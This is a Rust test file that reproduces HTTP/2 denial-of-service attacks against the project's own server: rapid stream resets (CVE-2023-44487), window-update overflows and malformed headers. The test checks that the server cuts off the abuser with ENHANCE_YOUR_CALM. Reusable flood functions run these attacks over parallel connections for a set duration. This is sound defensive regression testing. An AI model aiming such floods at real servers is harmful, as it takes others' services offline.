//! HTTP/2 as no library sends it: streams that are reset as soon as they are opened, and streams that make the server
//! reset them.

use promises::{
    client::bundles,
    door::Door,
    foe::{self, Foe, Frame},
    hall::{Hall, event_toml, strike_list},
};
use std::{
    io,
    time::{Duration, Instant},
};
use tokio::io::{AsyncWriteExt, ReadHalf, WriteHalf};
use tokio_rustls::client::TlsStream;

/// Streams in one write.
const BURST: u32 = 64;
/// A peer that has broken so many streams has broken them on purpose; it sends faster than it hears of its end.
const STREAMS_MAX: u32 = 20_000;
/// RFC 9113 §7.
const ENHANCE_YOUR_CALM: u32 = 0xb;

/// What is done with every stream.
#[derive(Clone, Copy, Debug)]
enum Way {
    /// Opened and reset by the peer: CVE-2023-44487.
    Reset,
    /// A window that overflows, so that the server resets it: CVE-2025-8671.
    Overflow,
    /// A header that must not be, so that the server resets it.
    Malformed,
}

impl Way {
    fn frames(self, stream: u32) -> Vec<u8> {
        let mut block = foe::call("/kiemphieu.v1.IntakeService/SubmitStream");
        if let Self::Malformed = self {
            block.extend_from_slice(b"\x00\x0aconnection\x05close");
        }
        let open = foe::frame(foe::HEADERS, foe::END_HEADERS, stream, &block);
        let then = match self {
            Self::Reset => foe::frame(foe::RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
            Self::Overflow => foe::frame(foe::WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
            Self::Malformed => Vec::new(),
        };
        [open, then].concat()
    }
}

/// What became of a connection that did this with stream after stream.
struct Ending {
    streams: u32,
    /// The reason that the server gave, if it gave one.
    reason: Option<u32>,
}

/// Breaks streams until the server ends the connection, or so many are broken.
async fn abuse(foe: &Foe, way: Way, streams_max: u32) -> io::Result<Ending> {
    let mut stream = foe.shake().await?;
    foe::begin(&mut stream).await?;
    let (reading, mut writing) = tokio::io::split(stream);
    let reader = tokio::spawn(until_away(reading));
    let mut streams = 0;
    while streams < streams_max && !reader.is_finished() {
        let burst: Vec<u8> = (streams..streams + BURST).flat_map(|n| way.frames(2 * n + 1)).collect();
        if send(&mut writing, &burst).await.is_err() {
            break;
        }
        streams += BURST;
        tokio::task::yield_now().await;
    }
    let reason = match tokio::time::timeout(Duration::from_secs(2), reader).await {
        Ok(reason) => reason.map_err(io::Error::other)?,
        // The server goes on with this peer.
        Err(_) => None,
    };
    Ok(Ending { streams, reason })
}

async fn send(writing: &mut WriteHalf<TlsStream<tokio::net::TcpStream>>, bytes: &[u8]) -> io::Result<()> {
    writing.write_all(bytes).await?;
    writing.flush().await
}

/// Reads until the server ends the connection; the reason of its last GOAWAY.
async fn until_away(mut reading: ReadHalf<TlsStream<tokio::net::TcpStream>>) -> Option<u32> {
    let mut reason = None;
    while let Ok(Frame { kind, payload, .. }) = foe::next(&mut reading).await {
        if kind == foe::GOAWAY && payload.len() >= 8 {
            reason = payload[4..8].try_into().ok().map(u32::from_be_bytes);
        }
    }
    reason
}

/// Streams opened and reset, over connection after connection.
pub async fn reset_flood(foe: Foe, lasting: Duration) -> String {
    flood(foe, &[Way::Reset], lasting).await
}

/// Streams that the server must reset, over connection after connection.
pub async fn broken_flood(foe: Foe, lasting: Duration) -> String {
    flood(foe, &[Way::Overflow, Way::Malformed], lasting).await
}

async fn flood(foe: Foe, ways: &[Way], lasting: Duration) -> String {
    let until = Instant::now() + lasting;
    let floods = (0..4).map(|n| {
        let (foe, way) = (foe.clone(), ways[n % ways.len()]);
        tokio::spawn(async move {
            let (mut connections, mut streams) = (0_u32, 0_u64);
            while Instant::now() < until {
                match abuse(&foe, way, u32::MAX / 4).await {
                    Ok(ending) => (connections, streams) = (connections + 1, streams + u64::from(ending.streams)),
                    Err(_) => tokio::time::sleep(Duration::from_millis(1)).await,
                }
            }
            (connections, streams)
        })
    });
    let mut sum = (0, 0);
    for flood in floods.collect::<Vec<_>>() {
        let (connections, streams) = flood.await.expect("no panic");
        sum = (sum.0 + connections, sum.1 + streams);
    }
    format!("{} connections cut, {} streams", sum.0, sum.1)
}

/// Turns red when `http2_max_local_error_reset_streams` or `http2_max_pending_accept_reset_streams` is taken away.
#[test]
fn a_peer_that_breaks_stream_after_stream_is_told_to_calm_down() {
    let hall = Hall::open(&event_toml(1, &strike_list("c01", 50)), 1);
    hall.prepare("c01", &bundles(10));
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let foe = Foe::at(&Door::of(&hall).as_station(&hall, "s01"));
    for way in [Way::Overflow, Way::Malformed, Way::Reset] {
        let ending = runtime.block_on(abuse(&foe, way, STREAMS_MAX)).expect("it may come in");
        println!("{way:?}: cut after at most {} streams, reason {:?}", ending.streams, ending.reason);
        let told = "streams were broken, and nobody was told to calm down";
        assert_eq!(ending.reason, Some(ENHANCE_YOUR_CALM), "{way:?}: {} {told}", ending.streams);
    }
    let calls = runtime.block_on(Door::of(&hall).replay());
    assert!(calls.is_ok(), "and everybody else is served");
}
